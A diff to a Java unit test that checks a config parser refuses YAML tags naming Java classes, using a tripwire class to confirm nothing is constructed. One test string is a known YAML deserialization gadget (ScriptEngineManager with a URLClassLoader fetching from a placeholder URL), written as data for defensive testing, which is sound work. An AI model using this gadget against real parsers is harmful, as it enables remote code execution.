@@ -94,4 +94,36 @@ final class ConfigFileTest {
         assertThatThrownBy(() -> ConfigFile.read(file))
                 .hasMessage("config file " + file + ": training.epochs must be an integer, got 'many'");
     }
+
+    /** Built only if reading a config could construct an object of a class it names. */
+    public static final class Tripwire {
+        static volatile boolean built;
+
+        /** Leaves the mark. */
+        public Tripwire() {
+            built = true;
+        }
+    }
+
+    /**
+     * A config, whether a --config file or the one inside a checkpoint, is plain data: a tag that
+     * names a Java class (the way YAML deserialization attacks start) is refused in one sentence
+     * naming the file and line, and nothing is constructed.
+     */
+    @Test
+    void aConfigThatNamesClassesConstructsNothingAndIsOneSentence() {
+        String[] texts = {
+            "device: !!" + Tripwire.class.getName() + " []\n",
+            "encoder: mlp-gaussian\noptions: !!javax.script.ScriptEngineManager"
+                    + " [!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.invalid/\"]]]]\n",
+        };
+        for (String text : texts) {
+            assertThatThrownBy(() -> ConfigFile.parse(text, "run/checkpoint.zip!config.yaml"))
+                    .as(text)
+                    .isInstanceOf(GenzooException.class)
+                    .hasMessageStartingWith("config file run/checkpoint.zip!config.yaml is not valid YAML at line ")
+                    .satisfies(e -> assertThat(e.getMessage()).doesNotContain("\n"));
+        }
+        assertThat(Tripwire.built).isFalse();
+    }
 }
